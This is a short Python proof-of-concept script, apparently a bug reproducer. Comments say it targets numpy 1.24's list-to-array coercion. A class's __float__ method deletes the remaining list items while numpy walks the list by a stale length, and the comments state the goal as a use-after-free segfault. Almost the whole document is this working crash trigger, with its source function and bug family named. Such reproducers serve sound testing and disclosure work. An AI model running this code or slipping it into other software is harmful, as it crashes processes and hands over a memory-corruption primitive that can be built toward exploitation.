# source: numpy 1.24 numpy/core/src/multiarray/array_coercion.c, PyArray_AssignFromCache_Recursive: length checked once, then PySequence_Fast_GET_ITEM(obj, i) for every i while PyArray_Pack runs the element's conversion method (cf. the public "mutate a list in a callback" family, CPython list-mutation-during-iteration bugs)
# family: memory safety, script callback (__float__/__int__/__complex__/__str__) run by numpy while it walks a list by a stale length
# goal: np.array(list, dtype=float): __float__ deletes the other items (freed), numpy reads the freed objects -> SIGSEGV (use after free)
import numpy as np
import pandas as pd


class Quote:
    def __init__(self, px):
        self.px = px

    def __float__(self):
        del book[1:]
        return float(self.px)


book = [Quote(1)] + [float(i) + 0.25 for i in range(2000)]
arr = np.array(book, dtype=float)
print("done", list(arr[:3]), list(arr[-3:]))
